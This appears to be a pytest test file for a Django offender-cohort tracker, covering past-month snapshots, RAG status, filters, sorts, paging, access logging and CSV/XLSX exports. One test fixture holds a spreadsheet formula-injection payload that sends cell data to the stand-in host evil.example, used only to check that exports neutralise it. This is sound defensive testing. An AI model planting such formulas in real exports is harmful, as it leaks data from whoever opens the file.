"""The cohort tracker: who is on it now and "as at" a past month, RAG as of the day,
filters, sorts, pages, the referrals queue and leavers, exports (with formula injection
neutralised), access logging and constant queries."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AccessLog, AccessOutcome, AuditEvent, Role, Verb
from cohorts.selectors.cohort import (
    CohortFilter,
    cohort_members,
    cohort_rows,
    leavers,
    month_choices,
    referrals_awaiting,
)
from core.exports import neutralise, write_csv, write_xlsx
from offenders.models import CaseEvent, Need, Nominal, Offence, RiskScore
from offenders.services import nominal_create
from panels.models import CohortMembership, PanelKind, RagReview
from tests.factories import make_panel, make_user

pytestmark = pytest.mark.django_db

MARCH_2025 = date(2025, 3, 1)


def person(actor, given="Jordan", family="Ashby", **fields):
    return nominal_create(
        actor=actor,
        given_names=given,
        family_name=family,
        date_of_birth=date(1990, 5, 17),
        **fields,
    )


def joins(nominal, panel, start, end=None, **fields):
    return CohortMembership.objects.create(
        nominal=nominal,
        panel=panel,
        status="exited" if end else "active",
        referred_on=start,
        start=start,
        end=end,
        exit_reason="Order ended" if end else "",
        **fields,
    )


def review(nominal, panel, rag, on, author):
    return RagReview.objects.create(
        nominal=nominal, panel=panel, rag=rag, reviewed_on=on, author=author
    )


def names(memberships):
    return [m.nominal.family_name for m in memberships]


def cohort_url(p):
    return reverse("cohorts:cohort", args=[p.panel.pk])


def apply_filter(client, p, **data):
    response = client.post(cohort_url(p), {"apply": "yes", **data})
    assert response.status_code == 302
    return client.get(cohort_url(p))


# "As at" a past month


@pytest.fixture
def history(partnership):
    """People on the IOM cohort around March 2025."""
    p = partnership
    author = p.coordinator
    stayed = person(author, family="Stayed")
    joins(stayed, p.panel, date(2025, 1, 10))
    review(stayed, p.panel, "red", date(2025, 3, 10), author)
    review(stayed, p.panel, "green", date(2025, 4, 20), author)
    joined_after = person(author, family="Joinedafter")
    joins(joined_after, p.panel, date(2025, 4, 15))
    left_before = person(author, family="Leftbefore")
    joins(left_before, p.panel, date(2024, 12, 1), end=date(2025, 2, 20))
    left_after = person(author, family="Leftafter")
    joins(left_after, p.panel, date(2024, 11, 1), end=date(2025, 5, 3))
    review(left_after, p.panel, "amber", date(2025, 2, 1), author)
    left_on_the_day = person(author, family="Leftonday")
    joins(left_on_the_day, p.panel, date(2024, 11, 1), end=date(2025, 3, 31))
    left_in_march = person(author, family="Leftinmarch")
    joins(left_in_march, p.panel, date(2024, 10, 1), end=date(2025, 3, 12))
    referred = person(author, family="Referred")
    CohortMembership.objects.create(
        nominal=referred, panel=p.panel, status="referred", referred_on=date(2025, 2, 1)
    )
    return p


def test_cohort_as_at_a_past_month_is_who_was_on_it_on_its_last_day(history):
    p = history
    members = cohort_members(p.coordinator, p.panel, filters=CohortFilter(month=MARCH_2025))
    assert names(members) == ["Leftafter", "Stayed"]


def test_rag_as_at_a_past_month_is_the_rag_of_that_day(history):
    p = history
    members = list(cohort_members(p.coordinator, p.panel, filters=CohortFilter(month=MARCH_2025)))
    rows = {
        row.nominal.family_name: row for row in cohort_rows(p.panel, members, day=date(2025, 3, 31))
    }
    assert rows["Stayed"].rag == "red"
    assert rows["Stayed"].days_since_review == 21
    assert rows["Leftafter"].rag == "amber"
    live = {m.nominal.family_name: m for m in cohort_members(p.coordinator, p.panel)}
    assert set(live) == {"Stayed", "Joinedafter"}
    assert live["Stayed"].rag == "green"


def test_leavers_of_the_chosen_month_and_the_referrals_queue(history):
    p = history
    assert names(leavers(p.coordinator, p.panel, MARCH_2025)) == ["Leftinmarch", "Leftonday"]
    assert names(referrals_awaiting(p.coordinator, p.panel)) == ["Referred"]


def test_as_at_months_run_from_the_first_member_to_last_month(history):
    months = month_choices(history.panel)
    this_month = timezone.localdate().replace(day=1)
    assert months[0] == (this_month - timedelta(days=1)).replace(day=1)
    assert months[-1] == date(2024, 10, 1)


def test_tracker_page_shows_the_chosen_month(history, client_for):
    p = history
    client = client_for(p.coordinator)
    body = apply_filter(client, p, month="2025-03").content.decode()
    assert "Cohort as at 31 March 2025" in body
    assert "Jordan STAYED" in body and "Jordan LEFTAFTER" in body
    assert "JOINEDAFTER" not in body
    assert "Left the cohort in March 2025" in body
    # The month stays chosen until cleared.
    assert "Cohort as at 31 March 2025" in client.get(cohort_url(p)).content.decode()
    client.post(cohort_url(p), {"clear": "yes"})
    assert "Cohort as at" not in client.get(cohort_url(p)).content.decode()


# Filters


@pytest.fixture
def cohort(partnership):
    p = partnership
    today = timezone.localdate()
    probation_lead = make_user(p.probation, Role.PARTNER, username="pat")
    red = person(p.partner, given="Ruby", family="Redd")
    red.lead_professional = probation_lead
    red.save()
    joins(red, p.panel, today - timedelta(days=100))
    review(red, p.panel, "red", today - timedelta(days=40), p.coordinator)
    Need.objects.create(
        nominal=red, pathway="accommodation", level="high", updated_on=today, updated_by=p.partner
    )
    green = person(p.partner, given="Gina", family="Green")
    green.lead_professional = p.partner
    green.save()
    joins(green, p.panel, today - timedelta(days=100))
    review(green, p.panel, "green", today - timedelta(days=3), p.coordinator)
    Need.objects.create(
        nominal=green, pathway="accommodation", level="none", updated_on=today, updated_by=p.partner
    )
    Need.objects.create(
        nominal=green, pathway="drugs", level="low", updated_on=today, updated_by=p.partner
    )
    never = person(p.partner, given="Nell", family="Neverseen")
    joins(never, p.panel, today - timedelta(days=10))
    p.people = {"red": red, "green": green, "never": never}
    p.probation_lead = probation_lead
    return p


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({}, ["Green", "Neverseen", "Redd"]),
        ({"rag": ("red",)}, ["Redd"]),
        ({"rag": ("green", "none")}, ["Green", "Neverseen"]),
        ({"pathway": "accommodation"}, ["Redd"]),  # a "no need" level is not a need
        ({"pathway": "drugs"}, ["Green"]),
        ({"overdue": True}, ["Redd"]),  # 40 days since review; the interval is 28
        ({"name": "gina"}, ["Green"]),
        ({"name": "GREEN gin"}, ["Green"]),
        ({"name": "nobody"}, []),
    ],
)
def test_filters_narrow_the_cohort(cohort, filters, expected):
    p = cohort
    members = cohort_members(p.coordinator, p.panel, filters=CohortFilter(**filters))
    assert names(members) == expected


def test_filter_by_lead_professional_and_their_agency(cohort):
    p = cohort
    by_lead = cohort_members(p.coordinator, p.panel, filters=CohortFilter(lead=p.partner.pk))
    assert names(by_lead) == ["Green"]
    by_agency = cohort_members(p.coordinator, p.panel, filters=CohortFilter(agency=p.probation.pk))
    assert names(by_agency) == ["Redd"]


def test_tracker_filters_are_posted_and_never_put_in_the_address(cohort, client_for):
    p = cohort
    client = client_for(p.coordinator)
    response = client.post(cohort_url(p), {"apply": "yes", "name": "Ruby", "rag": ["red"]})
    assert response.status_code == 302
    assert "Ruby" not in response["Location"]
    body = client.get(response["Location"]).content.decode()
    table = body.split('id="referrals"')[0]
    assert "RUBY" not in table.upper().split("SELECTED FILTERS")[0]  # not echoed in headings
    assert "Ruby REDD" in table and "Gina GREEN" not in table
    assert "1 person match the filters" in body
    # One filter removed at a time.
    client.post(cohort_url(p), {"remove": "name:"})
    body = client.get(cohort_url(p)).content.decode()
    assert "Ruby REDD" in body and "Gina GREEN" not in body.split('id="referrals"')[0]


def test_a_filter_with_errors_is_shown_with_the_list_unchanged(cohort, client_for):
    p = cohort
    response = client_for(p.coordinator).post(
        cohort_url(p), {"apply": "yes", "name": "x" * 101, "rag": ["purple"]}
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "There is a problem" in body
    assert "Name must be 100 characters or fewer" in body
    assert "Gina GREEN" in body and "Ruby REDD" in body


def test_an_empty_post_changes_no_filter(cohort, client_for):
    p = cohort
    client = client_for(p.coordinator)
    apply_filter(client, p, rag=["red"])
    assert client.post(cohort_url(p), {}).status_code == 302
    body = client.get(cohort_url(p)).content.decode()
    assert "Ruby REDD" in body and "Gina GREEN" not in body


def test_empty_state_when_no_one_matches(cohort, client_for):
    body = apply_filter(client_for(cohort.coordinator), cohort, name="Zebedee").content.decode()
    assert "No one on the cohort matches these filters" in body


def test_empty_state_for_a_new_panel(partnership, client_for):
    body = client_for(partnership.coordinator).get(cohort_url(partnership)).content.decode()
    assert "No one is on the cohort yet" in body
    assert "No referrals are waiting for a decision" in body


# Sorts


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("name", ["Green", "Neverseen", "Redd"]),
        ("-name", ["Redd", "Neverseen", "Green"]),
        ("rag", ["Redd", "Green", "Neverseen"]),
        ("-rag", ["Neverseen", "Green", "Redd"]),
        ("review", ["Green", "Redd", "Neverseen"]),  # fewest days since review first
        ("-review", ["Neverseen", "Redd", "Green"]),  # never reviewed counts as longest
        ("start", ["Green", "Redd", "Neverseen"]),
        ("-start", ["Neverseen", "Green", "Redd"]),
        ("lead", ["Redd", "Green", "Neverseen"]),
        ("nonsense", ["Green", "Neverseen", "Redd"]),
    ],
)
def test_sorts(cohort, sort, expected):
    p = cohort
    # Lead professionals' family names: pat's "PersonN" sorts after carol's.
    p.probation_lead.last_name = "Aardvark"
    p.probation_lead.save()
    assert names(cohort_members(p.coordinator, p.panel, sort=sort)) == expected


def test_sort_headers_are_links_that_work_without_javascript(cohort, client_for):
    client = client_for(cohort.coordinator)
    body = client.get(f"{cohort_url(cohort)}?sort=-rag").content.decode()
    assert 'aria-sort="descending"><a class="govuk-link" href="?sort=rag">RAG</a>' in body
    assert 'aria-sort="none"><a class="govuk-link" href="?sort=name">Name</a>' in body
    assert body.index("Nell NEVERSEEN") < body.index("Ruby REDD")


def test_tracker_row_shows_rag_lead_review_needs_and_flags(cohort, client_for):
    p = cohort
    red = p.people["red"]
    RiskScore.objects.create(
        nominal=red, ogrs_percent=30, assessed_on=date(2025, 1, 1), recorded_by_agency=p.council
    )
    # Recorded four months ago, with no contact since.
    Nominal.objects.filter(pk=red.pk).update(created_at=timezone.now() - timedelta(days=120))
    body = client_for(p.partner).get(cohort_url(p)).content.decode()
    row = body[body.index("Ruby REDD") : body.index("</tr>", body.index("Ruby REDD"))]
    assert "govuk-tag--red" in row
    assert "40 days" in row and "Overdue" in row
    assert p.probation_lead.get_full_name() in row and "Probation" in row
    assert "Accommodation (high)" in row
    assert "Outside IOM scope" in row
    assert "Not engaged 3+ months" in row
    # Partners see no coordinator's actions.
    assert "Record exit" not in body


def test_flags_follow_the_same_rules_as_the_profile(cohort):
    p = cohort
    red = p.people["red"]
    RiskScore.objects.create(
        nominal=red, ogrs_percent=60, assessed_on=date(2025, 1, 1), recorded_by_agency=p.council
    )
    Offence.objects.create(nominal=red, offence_type="burglary", recorded_by_agency=p.council)
    CaseEvent.objects.create(
        nominal=red,
        kind="visit",
        occurred_on=timezone.localdate(),
        summary="Seen",
        agency=p.council,
        author=p.partner,
    )
    members = list(cohort_members(p.coordinator, p.panel, filters=CohortFilter(rag=("red",))))
    row = cohort_rows(p.panel, members, day=timezone.localdate())[0]
    assert row.flags.in_iom_scope
    assert row.flag_labels == []


def test_panel_specific_columns_for_the_panels_kind(partnership, client_for):
    p = partnership
    dip = make_panel(p.council, [], kind=PanelKind.DIP, name="DIP panel")
    nominal = person(p.partner)
    joins(
        nominal,
        dip,
        date(2026, 1, 5),
        treatment_requirement="drr",
        treatment_start=date(2026, 1, 9),
    )
    body = client_for(p.coordinator).get(reverse("cohorts:cohort", args=[dip.pk])).content.decode()
    assert "Treatment requirement" in body and "DRR" in body and "9 Jan 2026" in body
    assert "OGRS band" not in body


# Pages, queue and access log


def test_coordinator_sees_the_referrals_queue_with_decisions_and_partners_without(
    history, client_for
):
    p = history
    coordinator = client_for(p.coordinator).get(cohort_url(p)).content.decode()
    assert "Jordan REFERRED" in coordinator.split('id="referrals"')[1]
    assert "Decide<span" in coordinator
    partner = client_for(p.member_partner).get(cohort_url(p)).content.decode()
    assert "Jordan REFERRED" in partner.split('id="referrals"')[1]
    assert "Decide<span" not in partner


def test_tracker_view_logs_the_panel_and_each_person_shown(cohort, client_for):
    p = cohort
    client_for(p.member_partner).get(cohort_url(p))
    rows = AccessLog.objects.filter(user=p.member_partner, outcome=AccessOutcome.ALLOWED)
    assert rows.filter(object_type="panels.panel").count() == 1
    people = rows.filter(object_type="offenders.nominal").values_list("object_id", flat=True)
    assert sorted(people) == sorted(str(person.pk) for person in p.people.values())


@pytest.mark.parametrize("persona", ["unsigned_partner", "outsider_partner", "committee"])
def test_tracker_is_404_for_those_who_cannot_see_the_panel(cohort, client_for, persona):
    p = cohort
    client = client_for(getattr(p, persona))
    assert client.get(cohort_url(p)).status_code == 404
    assert client.get(reverse("cohorts:cohort-csv", args=[p.panel.pk])).status_code == 404


def test_pages_of_fifty(partnership, client_for):
    p = partnership
    for i in range(55):
        joins(person(p.partner, family=f"Member{i:02d}"), p.panel, date(2026, 1, 5))
    client = client_for(p.coordinator)
    first = client.get(cohort_url(p)).content.decode()
    assert "55 people on the cohort" in first
    assert "MEMBER49" in first and "MEMBER50" not in first
    second = client.get(f"{cohort_url(p)}?sort=name&page=2").content.decode()
    assert "MEMBER50" in second and "MEMBER49" not in second
    assert "Page 2 of 2" in second


def _members(p, count, start=0):
    today = timezone.localdate()
    for i in range(start, start + count):
        nominal = person(p.partner, family=f"Person{i:03d}")
        nominal.lead_professional = p.partner
        nominal.save()
        joins(nominal, p.panel, date(2026, 1, 5))
        review(nominal, p.panel, "amber", today - timedelta(days=i % 40), p.coordinator)
        Need.objects.create(
            nominal=nominal, pathway="drugs", level="high", updated_on=today, updated_by=p.partner
        )


def test_tracker_queries_do_not_grow_with_the_cohort(
    partnership, client_for, django_assert_max_num_queries, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    p = partnership
    client = client_for(p.coordinator)
    _members(p, 5)
    with CaptureQueriesContext(connection) as small:
        assert client.get(cohort_url(p)).status_code == 200
    _members(p, 55, start=5)
    with django_assert_num_queries(len(small)):
        response = client.get(cohort_url(p))
    assert "60 people" in response.content.decode()
    with django_assert_max_num_queries(len(small) + 2):
        # The export reads every member, not a page, in the same number of queries
        # (plus the audit row and the access-log rows written together).
        assert client.get(reverse("cohorts:cohort-csv", args=[p.panel.pk])).status_code == 200
    assert len(small) <= 20


# Exports


def test_csv_export_is_what_the_tracker_shows_and_is_audited(cohort, client_for):
    p = cohort
    client = client_for(p.member_partner)
    apply_filter(client, p, rag=["red", "green"])
    response = client.get(f"{reverse('cohorts:cohort-csv', args=[p.panel.pk])}?sort=-name")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Name", "Record number", "Date of birth", "RAG"]
    assert rows[0][-3:] == ["IOM strand", "Statutory", "OGRS band"]
    assert [row[0] for row in rows[1:]] == ["Ruby REDD", "Gina GREEN"]
    assert rows[1][3] == "Red" and rows[1][6] == "Yes"  # review overdue
    event = AuditEvent.objects.get(verb=Verb.COHORT_EXPORTED)
    assert event.actor == p.member_partner
    assert event.detail["people"] == 2 and event.detail["format"] == "csv"
    assert event.detail["filtered"] is True
    logged = AccessLog.objects.filter(
        user=p.member_partner,
        object_type="offenders.nominal",
        endpoint=reverse("cohorts:cohort-csv", args=[p.panel.pk]),
    )
    assert sorted(logged.values_list("object_id", flat=True)) == sorted(
        [str(p.people["red"].pk), str(p.people["green"].pk)]
    )


def test_xlsx_export_keeps_numbers_and_dates_as_such(cohort, client_for):
    p = cohort
    response = client_for(p.coordinator).get(reverse("cohorts:cohort-xlsx", args=[p.panel.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "Name"
    green = next(row for row in values if row[0] == "Gina GREEN")
    assert isinstance(green[1], int)  # record number
    assert green[5] == 3  # days since last review, a number
    assert green[4].date() == timezone.localdate() - timedelta(days=3)
    assert AuditEvent.objects.filter(verb=Verb.COHORT_EXPORTED, detail__format="xlsx").count() == 1


def test_export_of_a_past_month(history, client_for):
    p = history
    client = client_for(p.coordinator)
    apply_filter(client, p, month="2025-03")
    response = client.get(reverse("cohorts:cohort-csv", args=[p.panel.pk]))
    assert "2025-03-31" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["Jordan LEFTAFTER", "Jordan STAYED"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_name_that_is_a_formula_comes_out_inert_in_both_formats(partnership, client_for):
    p = partnership
    joins(person(p.partner, given=FORMULA, family="+Sum(1)"), p.panel, date(2026, 1, 5))
    client = client_for(p.coordinator)

    csv_response = client.get(reverse("cohorts:cohort-csv", args=[p.panel.pk]))
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + FORMULA + " +SUM(1)"

    xlsx = client.get(reverse("cohorts:cohort-xlsx", args=[p.panel.pk]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == "'" + FORMULA + " +SUM(1)"
    assert cell.data_type == "s"  # text, not a formula
    assert b"<f>" not in _sheet_xml(xlsx.content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Plain", "Plain"),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_neutralise_prefixes_formula_starts_and_leaves_numbers(value, expected):
    assert neutralise(value) == expected


def test_writers_neutralise_every_text_cell_and_keep_negative_numbers():
    headers = ["=Header", "Amount"]
    rows = [["-2+3", -2], ["ok", 7]]
    text = write_csv(headers, rows).decode("utf-8-sig")
    assert text.splitlines() == ["'=Header,Amount", "'-2+3,-2", "ok,7"]
    sheet = load_workbook(io.BytesIO(write_xlsx(headers, rows))).active
    assert [c.value for c in sheet[1]] == ["'=Header", "Amount"]
    assert [c.value for c in sheet[2]] == ["'-2+3", -2]
    assert sheet.cell(row=2, column=2).data_type == "n"


def test_xlsx_writer_drops_characters_a_spreadsheet_cannot_hold():
    sheet = load_workbook(io.BytesIO(write_xlsx(["Name"], [["\x01=evil\x02"]]))).active
    assert sheet.cell(row=2, column=1).value == "'=evil"
